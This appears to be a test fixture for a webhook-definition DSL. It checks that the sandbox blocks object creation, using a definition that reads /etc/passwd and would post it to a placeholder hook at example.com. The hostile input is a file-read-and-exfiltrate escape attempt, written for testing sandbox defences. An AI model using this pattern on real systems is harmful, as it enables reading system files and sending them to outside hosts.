// expect: a definition cannot create objects ('new File')
webhook('escape') {
    description new File('/etc/passwd').text
    on 'Project:Created'
    request { post 'https://example.com/hook' }
}
